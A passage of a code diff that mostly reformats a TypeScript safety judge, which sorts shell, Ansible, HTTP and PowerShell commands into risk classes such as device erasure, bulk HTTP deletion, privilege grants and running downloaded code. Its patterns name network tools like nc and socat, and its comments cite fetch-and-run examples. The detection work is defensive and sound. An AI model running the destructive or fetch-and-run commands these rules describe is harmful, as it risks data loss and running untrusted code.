   if (/P/.test(flags) || texts.includes("--absolute-names")) return add(ctx, "overwrite_outside_workdir");
@@ -2069,7 +2912,11 @@ function extractInto(ctx: JudgeContext, dest: string | undefined): void {
   const p = dest ?? ".";
   // A downloaded archive (`curl -LO …/tool.tar.gz && tar xzf tool.tar.gz`, `curl … | tar xz`): what it unpacks came
   // from the network, so running a file from there runs downloaded code.
-  const fromNetwork = ctx.args.some((a) => !a.text.startsWith("-") && isFetched(ctx, a.text)) || (ctx.producer != null && FETCHERS.test(ctx.producer.name) && !ctx.args.some((a) => /\.(?:tar|tgz|zip|gz|xz|bz2|zst|7z)$/.test(a.text) && !isFetched(ctx, a.text)));
+  const fromNetwork =
+    ctx.args.some((a) => !a.text.startsWith("-") && isFetched(ctx, a.text)) ||
+    (ctx.producer != null &&
+      FETCHERS.test(ctx.producer.name) &&
+      !ctx.args.some((a) => /\.(?:tar|tgz|zip|gz|xz|bz2|zst|7z)$/.test(a.text) && !isFetched(ctx, a.text)));
   if (fromNetwork && ctx.fetched.size < 64) ctx.fetched.add(fetchKey(ctx, p).replace(/\/*$/, "/"));
   const abs = p.startsWith("/") ? posix.normalize(p) : ctx.cwd.startsWith("/") ? posix.join(ctx.cwd, p) : null;
   if (abs === "/") return add(ctx, "system_config_write");
@@ -2097,7 +2944,8 @@ function judgeAnsible(ctx: JudgeContext): void {
   }
   module = module.replace(/^ansible\.(?:builtin|posix|windows)\./, "");
   const kv = new Map<string, string>();
-  for (const m of moduleArgs.matchAll(/(\w+)=("[^"]*"|'[^']*'|\S+)/g)) kv.set(m[1]!.toLowerCase(), m[2]!.replace(/^(["'])(.*)\1$/, "$2"));
+  for (const m of moduleArgs.matchAll(/(\w+)=("[^"]*"|'[^']*'|\S+)/g))
+    kv.set(m[1]!.toLowerCase(), m[2]!.replace(/^(["'])(.*)\1$/, "$2"));
   const state = (kv.get("state") ?? "").toLowerCase();
   const path = kv.get("path") ?? kv.get("dest") ?? kv.get("name");
   switch (module) {
@@ -2106,7 +2954,8 @@ function judgeAnsible(ctx: JudgeContext): void {
     case "raw":
     case "win_shell":
     case "win_command":
-      if (moduleArgs) ctx.analyseShell(moduleArgs.replace(/^(?:\s*(?:chdir|creates|removes|executable|warn|stdin)=\S+)+\s*/, ""));
+      if (moduleArgs)
+        ctx.analyseShell(moduleArgs.replace(/^(?:\s*(?:chdir|creates|removes|executable|warn|stdin)=\S+)+\s*/, ""));
       return;
     case "script":
       return add(ctx, "shell_input");
@@ -2135,7 +2984,12 @@ function judgeAnsible(ctx: JudgeContext): void {
     case "systemd":
     case "systemd_service":
     case "sysvinit":
-      if (state === "stopped" || /^(?:no|false)$/i.test(kv.get("enabled") ?? "") || /^(?:yes|true)$/i.test(kv.get("masked") ?? "")) add(ctx, "stop_service");
+      if (
+        state === "stopped" ||
+        /^(?:no|false)$/i.test(kv.get("enabled") ?? "") ||
+        /^(?:yes|true)$/i.test(kv.get("masked") ?? "")
+      )
+        add(ctx, "stop_service");
       return;
     case "user":
     case "group":
@@ -2176,37 +3030,87 @@ function judgeHttpDelete(ctx: JudgeContext, name: string): void {
   let del = false;
   for (let k = 0; k < texts.length; k++) {
     const t = texts[k]!;
-    if (name === "curl" && (/^-[a-zA-Z]*X$/.test(t) || t === "--request") && /^delete$/i.test(texts[k + 1] ?? "")) del = true;
+    if (name === "curl" && (/^-[a-zA-Z]*X$/.test(t) || t === "--request") && /^delete$/i.test(texts[k + 1] ?? ""))
+      del = true;
     else if (name === "curl" && /^(?:-[a-zA-Z]*X|--request=)delete$/i.test(t)) del = true;
-    else if (name === "wget" && (/^--method=delete$/i.test(t) || (t === "--method" && /^delete$/i.test(texts[k + 1] ?? "")))) del = true;
+    else if (
+      name === "wget" &&
+      (/^--method=delete$/i.test(t) || (t === "--method" && /^delete$/i.test(texts[k + 1] ?? "")))
+    )
+      del = true;
     else if (name !== "curl" && name !== "wget" && /^delete$/i.test(t)) del = true;
   }
   // Elasticsearch/OpenSearch `_delete_by_query` with match_all (or no query): every document of the index, whatever the method.
   if (texts.some((t) => /\/_delete_by_query\b/.test(t))) {
-    const body = texts.filter((t, k) => /^-(?:d|-data(?:-raw|-binary|-ascii)?)$/.test(texts[k - 1] ?? "") || /^--data(?:-raw|-binary)?=/.test(t)).join(" ");
-    if (!body || /match_all|"query"\s*:\s*\{\s*\}/.test(body) || /[?&]q=\*/.test(texts.join(" "))) return add(ctx, "http_delete");
+    const body = texts
+      .filter(
+        (t, k) =>
+          /^-(?:d|-data(?:-raw|-binary|-ascii)?)$/.test(texts[k - 1] ?? "") || /^--data(?:-raw|-binary)?=/.test(t),
+      )
+      .join(" ");
+    if (!body || /match_all|"query"\s*:\s*\{\s*\}/.test(body) || /[?&]q=\*/.test(texts.join(" ")))
+      return add(ctx, "http_delete");
   }
   // A purge-everything body or endpoint, whatever the method: Solr `<delete><query>*:*</query></delete>` (or its JSON
   // form), a CDN's `purge_everything` / `purge_all`, a queue's or cache's purge-all endpoint.
   const joined = texts.join(" ");
-  if (/<delete>\s*<query>\s*\*:\*\s*<\/query>|"delete"\s*:\s*\{\s*"query"\s*:\s*"\*:\*"|stream\.body=<delete>/i.test(joined)) return add(ctx, "http_delete");
-  if (/"purge_everything"\s*:\s*true|purge_everything=true|\/purge_?all\b|\/purge-all\b|\/_flush_?all\b|\/flushall\b/i.test(joined)) return add(ctx, "cache_flush");
+  if (
+    /<delete>\s*<query>\s*\*:\*\s*<\/query>|"delete"\s*:\s*\{\s*"query"\s*:\s*"\*:\*"|stream\.body=<delete>/i.test(
+      joined,
+    )
+  )
+    return add(ctx, "http_delete");
+  if (
+    /"purge_everything"\s*:\s*true|purge_everything=true|\/purge_?all\b|\/purge-all\b|\/_flush_?all\b|\/flushall\b/i.test(
+      joined,
+    )
+  )
+    return add(ctx, "cache_flush");
   if (!del) return;
-  const urls = texts.filter((t) => /^(?:https?:\/\/|(?:localhost|\d+(?:\.\d+){3}|[\w-]+(?:\.[\w-]+)+|\$\{?\w+\}?)(?::\d+)?(?:\/|$))/i.test(t) || (name !== "curl" && name !== "wget" && /^:\d*\//.test(t)));
+  const urls = texts.filter(
+    (t) =>
+      /^(?:https?:\/\/|(?:localhost|\d+(?:\.\d+){3}|[\w-]+(?:\.[\w-]+)+|\$\{?\w+\}?)(?::\d+)?(?:\/|$))/i.test(t) ||
+      (name !== "curl" && name !== "wget" && /^:\d*\//.test(t)),
+  );
   if (!urls.length) return add(ctx, "http_delete");
   for (const u of urls) {
-    const m = /^(?:https?:\/\/)?(?:[^@/]*@)?(\[[^\]]*\]|[^/:?#]*)(?::\d+)?([^?#]*)/i.exec(u.startsWith(":") ? `localhost${u}` : u)!;
+    const m = /^(?:https?:\/\/)?(?:[^@/]*@)?(\[[^\]]*\]|[^/:?#]*)(?::\d+)?([^?#]*)/i.exec(
+      u.startsWith(":") ? `localhost${u}` : u,
+    )!;
     const host = m[1]!;
     const segments = m[2]!.split("/").filter(Boolean);
     // The last segment named right after a collection word (`/indexes/movies`, `/collections/docs`, `/v1/buckets/b`,
     // `/zones/Z`, `/api/v2/databases/db`): the whole index, collection, bucket or database, not one of its items.
-    const container = /^(?:indexes|indices|index|collections|collection|buckets|bucket|databases|database|dbs|db|keyspaces|tables|zones|topics|queues|vhosts|exchanges|namespaces|projects|repos|repositories|schemas|clusters|volumes|snapshots|streams|datasets|spaces|tenants)$/i;
-    const whole = segments.length <= 1 || segments.some((s) => /[*,]|^_all$/.test(s)) || (segments.length >= 2 && container.test(segments[segments.length - 2]!));
+    const container =
+      /^(?:indexes|indices|index|collections|collection|buckets|bucket|databases|database|dbs|db|keyspaces|tables|zones|topics|queues|vhosts|exchanges|namespaces|projects|repos|repositories|schemas|clusters|volumes|snapshots|streams|datasets|spaces|tenants)$/i;
+    const whole =
+      segments.length <= 1 ||
+      segments.some((s) => /[*,]|^_all$/.test(s)) ||
+      (segments.length >= 2 && container.test(segments[segments.length - 2]!));
     // One item named by its id under a collection of items (`/v1/users/123`, `/api/comments/8f3a…`): a single record, not
     // the store; collections whose single member is itself a store (repos, projects, clusters, …) are not items.
-    const item = !whole && segments.length >= 3 && /^(?:\d+|[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}|[0-9a-f]{12,}|[A-Za-z]{1,4}_[A-Za-z0-9]{6,})$/i.test(segments[segments.length - 1]!) && /^[a-z][a-z_-]*s$/i.test(segments[segments.length - 2]!) && !/^(?:repos|repositories|projects|clusters|instances|servers|droplets|volumes|zones|domains|keys|tokens|secrets|accounts|orgs|organizations|organisations|tenants|databases|buckets|snapshots|backups|deployments|environments|apps|applications|sites|workspaces|teams|groups|indexes|indices|stacks|vms|machines|nodes|hooks|webhooks|policies|roles|certificates|services|functions|distributions)$/i.test(segments[segments.length - 2]!);
+    const item =
+      !whole &&
+      segments.length >= 3 &&
+      /^(?:\d+|[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}|[0-9a-f]{12,}|[A-Za-z]{1,4}_[A-Za-z0-9]{6,})$/i.test(
+        segments[segments.length - 1]!,
+      ) &&
+      /^[a-z][a-z_-]*s$/i.test(segments[segments.length - 2]!) &&
+      !/^(?:repos|repositories|projects|clusters|instances|servers|droplets|volumes|zones|domains|keys|tokens|secrets|accounts|orgs|organizations|organisations|tenants|databases|buckets|snapshots|backups|deployments|environments|apps|applications|sites|workspaces|teams|groups|indexes|indices|stacks|vms|machines|nodes|hooks|webhooks|policies|roles|certificates|services|functions|distributions)$/i.test(
+        segments[segments.length - 2]!,
+      );
     // …sent with the task's own credentials (an Authorization header, -u / --auth, a bearer or API-key option): the task's API.
-    const credentials = texts.some((t, k) => /^(?:-H|--header)$/.test(texts[k - 1] ?? "") && /^(?:Authorization|X-Api-Key|X-Auth-Token|Private-Token)\s*:/i.test(t)) || texts.some((t) => /^(?:Authorization|X-Api-Key|X-Auth-Token):/i.test(t) || /^(?:-u|--user|-a|--auth|--oauth2-bearer|--aws-sigv4)$/.test(t));
+    const credentials =
+      texts.some(
+        (t, k) =>
+          /^(?:-H|--header)$/.test(texts[k - 1] ?? "") &&
+          /^(?:Authorization|X-Api-Key|X-Auth-Token|Private-Token)\s*:/i.test(t),
+      ) ||
+      texts.some(
+        (t) =>
+          /^(?:Authorization|X-Api-Key|X-Auth-Token):/i.test(t) ||
+          /^(?:-u|--user|-a|--auth|--oauth2-bearer|--aws-sigv4)$/.test(t),
+      );
     if (item && credentials && !/\$/.test(u)) continue;
     if (!LOCAL_HOST.test(host) || /\$/.test(u) || whole) return add(ctx, "http_delete");
   }
@@ -2222,21 +3126,53 @@ function judgeHttpWrite(ctx: JudgeContext, name: string): void {
   let method = "";
   for (let k = 0; k < texts.length; k++) {
     const t = texts[k]!;
-    if ((/^-[a-zA-Z]*X$/.test(t) || t === "--request" || t === "--method") && texts[k + 1]) method = texts[k + 1]!.toUpperCase();
-    else if (/^(?:-[a-zA-Z]*X|--request=|--method=)\w+$/i.test(t)) method = t.replace(/^(?:-[a-zA-Z]*X|--request=|--method=)/i, "").toUpperCase();
+    if ((/^-[a-zA-Z]*X$/.test(t) || t === "--request" || t === "--method") && texts[k + 1])
+      method = texts[k + 1]!.toUpperCase();
+    else if (/^(?:-[a-zA-Z]*X|--request=|--method=)\w+$/i.test(t))
+      method = t.replace(/^(?:-[a-zA-Z]*X|--request=|--method=)/i, "").toUpperCase();
     else if (name !== "curl" && name !== "wget" && /^(?:PATCH|PUT|POST)$/.test(t)) method = t;
   }
   if (!/^(?:PATCH|PUT|POST)$/.test(method)) return;
-  const body = texts.filter((t, k) => /^(?:-d|--data(?:-raw|-binary|-ascii|-urlencode)?|--json|-F|--form|-f|--field|--raw-field|--body-data|--post-data)$/.test(texts[k - 1] ?? "") || /^(?:--data\S*|--json|--body-data|--post-data|--field|--raw-field)=/.test(t) || (name !== "curl" && name !== "wget" && /^[\w.-]+(?::=|=)/.test(t))).join(" ");
-  const urls = texts.filter((t) => /^(?:https?:\/\/|\$\{?\w+\}?\/|(?:localhost|\d+(?:\.\d+){3}|[\w-]+(?:\.[\w-]+)+)(?::\d+)?\/)/i.test(t) || /^(?:repos|orgs|projects|groups)\//.test(t));
-  if (urls.some((u) => /\/(?:collaborators|members|memberships|invitations|permissions)\b/.test(u)) && /"?(?:permission|role|access_level|role_name)"?\s*[:=]\s*"?(?:admin|owner|maintain|maintainer|50|40)\b/i.test(body)) return add(ctx, "privilege_grant");
-  if (/"private"\s*:\s*false|\bprivate=false\b|"visibility"\s*:\s*"public"|\bvisibility=public\b|"public"\s*:\s*true|"acl"\s*:\s*"public-read/i.test(body)) return add(ctx, "privilege_grant");
+  const body = texts
+    .filter(
+      (t, k) =>
+        /^(?:-d|--data(?:-raw|-binary|-ascii|-urlencode)?|--json|-F|--form|-f|--field|--raw-field|--body-data|--post-data)$/.test(
+          texts[k - 1] ?? "",
+        ) ||
+        /^(?:--data\S*|--json|--body-data|--post-data|--field|--raw-field)=/.test(t) ||
+        (name !== "curl" && name !== "wget" && /^[\w.-]+(?::=|=)/.test(t)),
+    )
+    .join(" ");
+  const urls = texts.filter(
+    (t) =>
+      /^(?:https?:\/\/|\$\{?\w+\}?\/|(?:localhost|\d+(?:\.\d+){3}|[\w-]+(?:\.[\w-]+)+)(?::\d+)?\/)/i.test(t) ||
+      /^(?:repos|orgs|projects|groups)\//.test(t),
+  );
+  if (
+    urls.some((u) => /\/(?:collaborators|members|memberships|invitations|permissions)\b/.test(u)) &&
+    /"?(?:permission|role|access_level|role_name)"?\s*[:=]\s*"?(?:admin|owner|maintain|maintainer|50|40)\b/i.test(body)
+  )
+    return add(ctx, "privilege_grant");
+  if (
+    /"private"\s*:\s*false|\bprivate=false\b|"visibility"\s*:\s*"public"|\bvisibility=public\b|"public"\s*:\s*true|"acl"\s*:\s*"public-read/i.test(
+      body,
+    )
+  )
+    return add(ctx, "privilege_grant");
   if (method === "POST" || !body) return;
   for (const u of urls) {
     const m = /^(?:https?:\/\/)?(?:[^@/]*@)?(\[[^\]]*\]|[^/:?#]*)(?::\d+)?([^?#]*)/i.exec(u)!;
     const segments = m[2]!.split("/").filter(Boolean);
     const last = segments[segments.length - 1] ?? "";
-    if ((!LOCAL_HOST.test(m[1]!) || /\$/.test(m[1]!)) && segments.length >= 1 && /^[a-z][a-z-]*[a-rt-z]s$/i.test(last) && !/^(?:settings|status|credentials|permissions|preferences|headers|details|options|metrics|stats|graphs|configs?|mappings|aliases|access|ids)$/i.test(last)) return add(ctx, "http_bulk_update");
+    if (
+      (!LOCAL_HOST.test(m[1]!) || /\$/.test(m[1]!)) &&
+      segments.length >= 1 &&
+      /^[a-z][a-z-]*[a-rt-z]s$/i.test(last) &&
+      !/^(?:settings|status|credentials|permissions|preferences|headers|details|options|metrics|stats|graphs|configs?|mappings|aliases|access|ids)$/i.test(
+        last,
+      )
+    )
+      return add(ctx, "http_bulk_update");
   }
 }
 
@@ -2253,12 +3189,19 @@ function judgeOutputOption(ctx: JudgeContext, name: string): void {
     const t = texts[k]!;
     if (t === shortOpt || t === longOpt || bundle?.test(t)) {
       if (texts[k + 1] !== undefined) targets.push(texts[k + 1]!);
-    } else if ((name === "curl" && t === "--output-dir") || (name === "wget" && (t === "-P" || t === "--directory-prefix"))) {
+    } else if (
+      (name === "curl" && t === "--output-dir") ||
+      (name === "wget" && (t === "-P" || t === "--directory-prefix"))
+    ) {
       if (texts[k + 1] !== undefined) targets.push(posix.join(texts[k + 1]!, "_download_"));
-    } else if ((name === "curl" && t.startsWith("--output-dir=")) || (name === "wget" && t.startsWith("--directory-prefix="))) {
+    } else if (
+      (name === "curl" && t.startsWith("--output-dir=")) ||
+      (name === "wget" && t.startsWith("--directory-prefix="))
+    ) {
       targets.push(posix.join(t.slice(t.indexOf("=") + 1), "_download_"));
     } else if (t.startsWith(longOpt + "=")) targets.push(t.slice(longOpt.length + 1));
-    else if (shortOpt.length === 2 && t.startsWith(shortOpt) && t.length > 2 && name !== "curl" && name !== "wget") targets.push(t.slice(2));
+    else if (shortOpt.length === 2 && t.startsWith(shortOpt) && t.length > 2 && name !== "curl" && name !== "wget")
+      targets.push(t.slice(2));
   }
   if (name === "uniq") {
     const ops = operands(args, "fsw", ["--skip-fields", "--skip-chars", "--check-chars"]);
@@ -2269,24 +3212,56 @@ function judgeOutputOption(ctx: JudgeContext, name: string): void {
 
 /** ed/ex/vim run non-interactively (a script on stdin, -c commands, -s/-e mode) write the files they edit. */
 /** Text computed by a download (`$(curl …)`, `<(wget -qO- …)`) standing where a program reads commands. */
-const FETCHED_TEXT = /(?:\$\(|<\(|`)\s*(?:sudo\s+)?(?:curl|wget|fetch|aria2c|http|https|xh|nc|ncat|socat|gh\s+api|aws\s+s3\s+cp|gsutil\s+cat)\b/;
+const FETCHED_TEXT =
+  /(?:\$\(|<\(|`)\s*(?:sudo\s+)?(?:curl|wget|fetch|aria2c|http|https|xh|nc|ncat|socat|gh\s+api|aws\s+s3\s+cp|gsutil\s+cat)\b/;
 
 function judgeScriptedEditor(ctx: JudgeContext): void {
   // `vim -es -c "$(curl …)"`, `vim -S <(curl …)`: ex commands (which can run `:!cmd`) downloaded and run.
-  if (ctx.args.some((a, k) => /^(?:-c|-S|--cmd|-s|-u)$/.test(ctx.args[k - 1]?.text ?? "") && FETCHED_TEXT.test(a.text)) || ctx.args.some((a) => /^\+/.test(a.text) && FETCHED_TEXT.test(a.text))) return add(ctx, "shell_input");
+  if (
+    ctx.args.some((a, k) => /^(?:-c|-S|--cmd|-s|-u)$/.test(ctx.args[k - 1]?.text ?? "") && FETCHED_TEXT.test(a.text)) ||
+    ctx.args.some((a) => /^\+/.test(a.text) && FETCHED_TEXT.test(a.text))
+  )
+    return add(ctx, "shell_input");
   const args = ctx.args;
-  const scripted = ctx.producer != null || ctx.redirects.some((r) => r.body !== undefined || (r.op === "<" && !r.fd)) || args.some((a) => /^-[a-zA-Z]*[cse]$|^-[Es]$|^\+/.test(a.text) || a.text === "-es");
+  const scripted =
+    ctx.producer != null ||
+    ctx.redirects.some((r) => r.body !== undefined || (r.op === "<" && !r.fd)) ||
+    args.some((a) => /^-[a-zA-Z]*[cse]$|^-[Es]$|^\+/.test(a.text) || a.text === "-es");
   if (!scripted && ctx.name !== "ed" && ctx.name !== "ex") return;
   if (!scripted) return;
-  for (const op of operands(args, ctx.name === "ed" || ctx.name === "ex" ? "p" : "cSuUiTwW", ["--cmd"])) if (!op.text.startsWith("+")) judgeOverwrite(ctx, op.text);
+  for (const op of operands(args, ctx.name === "ed" || ctx.name === "ex" ? "p" : "cSuUiTwW", ["--cmd"]))
+    if (!op.text.startsWith("+")) judgeOverwrite(ctx, op.text);
 }
 
 /** wipefs -a, blkdiscard, hdparm --security-erase: erasing a device (an image file in the working directory is fine). */
 function judgeEraser(ctx: JudgeContext, name: string): void {
   const args = ctx.args;
-  if (name === "wipefs" && (hasFlag(args.filter((a) => !a.text.startsWith("--")), "n") || args.some((a) => a.text === "--no-act") || !args.some((a) => /^-[a-zA-Z]*[ao]|^--(?:all|offset|types)/.test(a.text)))) return;
-  if (name === "hdparm" && !args.some((a) => /^--(?:security-erase|security-erase-enhanced|trim-sector-ranges|write-sector|make-bad-sector|dco-restore|fwdownload)/.test(a.text))) return;
-  const ops = operands(args, name === "wipefs" ? "otpb" : name === "blkdiscard" ? "olps" : "", ["--offset", "--types", "--length", "--step", "--backup"]);
+  if (
+    name === "wipefs" &&
+    (hasFlag(
+      args.filter((a) => !a.text.startsWith("--")),
+      "n",
+    ) ||
+      args.some((a) => a.text === "--no-act") ||
+      !args.some((a) => /^-[a-zA-Z]*[ao]|^--(?:all|offset|types)/.test(a.text)))
+  )
+    return;
+  if (
+    name === "hdparm" &&
+    !args.some((a) =>
+      /^--(?:security-erase|security-erase-enhanced|trim-sector-ranges|write-sector|make-bad-sector|dco-restore|fwdownload)/.test(
+        a.text,
+      ),
+    )
+  )
+    return;
+  const ops = operands(args, name === "wipefs" ? "otpb" : name === "blkdiscard" ? "olps" : "", [
+    "--offset",
+    "--types",
+    "--length",
+    "--step",
+    "--backup",
+  ]);
   const targets = name === "hdparm" ? ops.filter((o) => o.text.startsWith("/dev/")) : ops;
   if (!targets.length) return add(ctx, "erase_device");
   for (const t of targets) {
@@ -2296,7 +3271,8 @@ function judgeEraser(ctx: JudgeContext, name: string): void {
   }
 }
 
-const BLOCK_DEVICE_NAME = /^(?:\/dev\/(?!null$|zero$|stdin$|stdout$|stderr$|fd\/)|(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d+n\d+|mmcblk\d+)\w*$)/;
+const BLOCK_DEVICE_NAME =
+  /^(?:\/dev\/(?!null$|zero$|stdin$|stdout$|stderr$|fd\/)|(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d+n\d+|mmcblk\d+)\w*$)/;
 
 /**
  * Commands that initialise a device for a new use (nvme format/sanitize, LVM physical volumes, ZFS pools,
@@ -2306,10 +3282,29 @@ const BLOCK_DEVICE_NAME = /^(?:\/dev\/(?!null$|zero$|stdin$|stdout$|stderr$|fd\/
 function judgeDiskInit(ctx: JudgeContext, name: string): void {
   const args = ctx.args;
   const words = sub(args);
-  if (name === "nvme" && !/^(?:format|sanitize|delete-ns|write-zeroes|write-uncor|fw-download|fw-commit)$/.test(words[0] ?? "")) return;
-  if (name === "badblocks" && !hasFlag(args.filter((a) => !a.text.startsWith("--")), "w")) return;
+  if (
+    name === "nvme" &&
+    !/^(?:format|sanitize|delete-ns|write-zeroes|write-uncor|fw-download|fw-commit)$/.test(words[0] ?? "")
+  )
+    return;
+  if (
+    name === "badblocks" &&
+    !hasFlag(
+      args.filter((a) => !a.text.startsWith("--")),
+      "w",
+    )
+  )
+    return;
   if (name === "ceph-volume" && !words.includes("zap")) return;
-  const ops = operands(args, name === "zpool" ? "oOmRt" : name === "badblocks" ? "bcdeiopt" : "", ["--ses", "--namespace-id", "--lbaf", "--pi", "--setsize", "--metadatasize", "--dataalignment"]).map((o) => o.text);
+  const ops = operands(args, name === "zpool" ? "oOmRt" : name === "badblocks" ? "bcdeiopt" : "", [
+    "--ses",
+    "--namespace-id",
+    "--lbaf",
+    "--pi",
+    "--setsize",
+    "--metadatasize",
+    "--dataalignment",
+  ]).map((o) => o.text);
   for (const o of ops) {
     if (BLOCK_DEVICE_NAME.test(o)) return add(ctx, "erase_device");
     if (o.includes("/") && !isInsideLike(whereIn(ctx, o))) return add(ctx, "erase_device");
@@ -2320,7 +3315,13 @@ function judgeDiskInit(ctx: JudgeContext, name: string): void {
 /** Partitioning tools on a device change its partition table unless they only list or print it. */
 function judgePartitioner(ctx: JudgeContext, name: string): void {
   const args = ctx.args;
-  const ops = operands(args, name === "sfdisk" ? "NuoO" : name === "fdisk" ? "bcCHSuLwW" : "", ["--sector-size", "--output", "--wipe", "--wipe-partitions", "--label"]);
+  const ops = operands(args, name === "sfdisk" ? "NuoO" : name === "fdisk" ? "bcCHSuLwW" : "", [
+    "--sector-size",
+    "--output",
+    "--wipe",
+    "--wipe-partitions",
+    "--label",
+  ]);
   const target = ops.find((o) => o.text.startsWith("/") || o.text.includes("/")) ?? ops[0];
   if (!target) return;
   const w = whereIn(ctx, target.text);
@@ -2329,11 +3330,31 @@ function judgePartitioner(ctx: JudgeContext, name: string): void {
     name === "fdisk" || name === "gdisk"
       ? hasFlag(args, "lsV", ["--list", "--getsz", "--version"])
       : name === "sfdisk"
-        ? hasFlag(args, "ldJsVgr", ["--list", "--dump", "--json", "--show-size", "--verify", "--show-geometry", "--version", "--list-free", "--part-type", "--part-label"]) && !args.some((a) => /^--(?:delete|part-type|part-label)$/.test(a.text) && ops.length > 1)
+        ? hasFlag(args, "ldJsVgr", [
+            "--list",
+            "--dump",
+            "--json",
+            "--show-size",
+            "--verify",
+            "--show-geometry",
+            "--version",
+            "--list-free",
+            "--part-type",
+            "--part-label",
+          ]) && !args.some((a) => /^--(?:delete|part-type|part-label)$/.test(a.text) && ops.length > 1)
         : name === "sgdisk"
-          ? hasFlag(args, "pvi", ["--print", "--verify", "--info", "--version"]) && !hasFlag(args, "zZodnt", ["--zap", "--zap-all", "--clear", "--delete", "--new"])
+          ? hasFlag(args, "pvi", ["--print", "--verify", "--info", "--version"]) &&
+            !hasFlag(args, "zZodnt", ["--zap", "--zap-all", "--clear", "--delete", "--new"])
           : name === "parted"
-            ? hasFlag(args, "l", ["--list"]) || ops.slice(1).every((o) => /^(?:print|p|unit|s|b|kb|mb|gb|tb|kib|mib|gib|tib|%|cyl|chs|compact|free|list|all|help|version)$/i.test(o.text)) && ops.length > 1
+            ? hasFlag(args, "l", ["--list"]) ||
+              (ops
+                .slice(1)
+                .every((o) =>
+                  /^(?:print|p|unit|s|b|kb|mb|gb|tb|kib|mib|gib|tib|%|cyl|chs|compact|free|list|all|help|version)$/i.test(
+                    o.text,
+                  ),
+                ) &&
+                ops.length > 1)
             : false;
   if (!readOnly) add(ctx, "erase_device");
 }
@@ -2350,27 +3371,56 @@ function judgePowerShellCmdlet(ctx: JudgeContext): void {
   // A cmdlet with no path of its own acts on what the pipeline gives it: `Get-ChildItem DIR [-Recurse] | Remove-Item`.
   const piped = (): string | undefined => {
     const p = ctx.producer;
-    if (!p || !/^(?:get-childitem|gci|ls|dir|get-item|gi|resolve-path|where-object|where|\?|select-object|select|sort-object)$/i.test(p.name)) return undefined;
+    if (
+      !p ||
+      !/^(?:get-childitem|gci|ls|dir|get-item|gi|resolve-path|where-object|where|\?|select-object|select|sort-object)$/i.test(
+        p.name,
+      )
+    )
+      return undefined;
     const origin = /^(?:where-object|where|\?|select-object|select|sort-object)$/i.test(p.name) ? p.before : p;
     if (!origin) return undefined;
     const k = origin.args.findIndex((a) => /^-(?:path|literalpath|lp)$/i.test(a.text));
-    const dir = k >= 0 ? origin.args[k + 1]?.text : origin.args.find((a) => !a.text.startsWith("-") && !/^-/.test(a.text))?.text;
+    const dir =
+      k >= 0 ? origin.args[k + 1]?.text : origin.args.find((a) => !a.text.startsWith("-") && !/^-/.test(a.text))?.text;
     return posix.join(dir ?? ".", "_item_");
   };
-  if (n === "stop-service" || n === "spsv" || n === "restart-service" || n === "suspend-service" || n === "set-service") {
+  if (
+    n === "stop-service" ||
+    n === "spsv" ||
+    n === "restart-service" ||
+    n === "suspend-service" ||
+    n === "set-service"
+  ) {
     const names = args.filter((a) => !a.text.startsWith("-")).map((a) => a.text);
     // Every Windows service is the machine's (an agent's own servers are not Windows services): stopping, suspending,
     // disabling or restarting one by name (`Stop-Service -Name Spooler`) changes the system.
-    if (names.length || (ctx.producer && !names.length)) add(ctx, n.startsWith("restart") || (n === "set-service" && !args.some((a) => /^(?:disabled|stopped)$/i.test(a.text))) ? "service_change" : "stop_service");
+    if (names.length || (ctx.producer && !names.length))
+      add(
+        ctx,
+        n.startsWith("restart") || (n === "set-service" && !args.some((a) => /^(?:disabled|stopped)$/i.test(a.text)))
+          ? "service_change"
+          : "stop_service",
+      );
     return;
   }
   if (n === "stop-process" || n === "spps" || n === "kill") {
     const k = args.findIndex((a) => /^-(?:name|processname)$/i.test(a.text));
     const names = k >= 0 ? (args[k + 1]?.text ?? "").split(",") : [];
     if (names.some((x) => SYSTEM_DAEMON.test(x.replace(/^['"]|['"]$/g, "")))) return add(ctx, "stop_service");
-    if (args.some((a) => /^-id$/i.test(a.text)) && /^(?:0|1|4)$/.test(args[args.findIndex((a) => /^-id$/i.test(a.text)) + 1]?.text ?? "")) return add(ctx, "kill_all_processes");
-    if (ctx.producer && /^(?:get-process|gps|ps)$/i.test(ctx.producer.name) && !ctx.producer.args.length) return add(ctx, "kill_all_processes");
-    if (ctx.producer && /^(?:get-process|gps|ps)$/i.test(ctx.producer.name) && ctx.producer.args.some((a) => SYSTEM_DAEMON.test(a.text.replace(/^['"]|['"]$/g, "")))) return add(ctx, "stop_service");
+    if (
+      args.some((a) => /^-id$/i.test(a.text)) &&
+      /^(?:0|1|4)$/.test(args[args.findIndex((a) => /^-id$/i.test(a.text)) + 1]?.text ?? "")
+    )
+      return add(ctx, "kill_all_processes");
+    if (ctx.producer && /^(?:get-process|gps|ps)$/i.test(ctx.producer.name) && !ctx.producer.args.length)
+      return add(ctx, "kill_all_processes");
+    if (
+      ctx.producer &&
+      /^(?:get-process|gps|ps)$/i.test(ctx.producer.name) &&
+      ctx.producer.args.some((a) => SYSTEM_DAEMON.test(a.text.replace(/^['"]|['"]$/g, "")))
+    )
+      return add(ctx, "stop_service");
     return;
   }
   if (n === "remove-item" || n === "ri" || n === "del" || n === "erase" || n === "rd") {
@@ -2378,11 +3428,14 @@ function judgePowerShellCmdlet(ctx: JudgeContext): void {
     const recursive = args.some((a) => /^-r(?:ecurse)?$/i.test(a.text)) || n === "rd";
     const win = path !== undefined ? windowsDeleteClass(path, recursive) : null;
     if (win) add(ctx, /^(?:HKLM|HKCU|HKCR|HKU|HKCC|Registry):/i.test(path!) ? "system_config_write" : win);
-    else if (path !== undefined && /^(?:HKLM|HKCU|HKCR|HKU|HKCC|Registry):/i.test(path)) add(ctx, "system_config_write");
+    else if (path !== undefined && /^(?:HKLM|HKCU|HKCR|HKU|HKCC|Registry):/i.test(path))
+      add(ctx, "system_config_write");
     else if (path !== undefined) judgeDelete(ctx, path.replace(/\\/g, "/"), recursive);
   } else if (n === "set-content" || n === "out-file" || n === "clear-content" || n === "sc" || n === "clc") {
     const p = args.findIndex((a) => /^-(?:path|literalpath|filepath)$/i.test(a.text));
-    const path = (p >= 0 ? args[p + 1]?.text : args.find((a) => !a.text.startsWith("-"))?.text) ?? (n === "clear-content" || n === "clc" ? piped() : undefined);
+    const path =
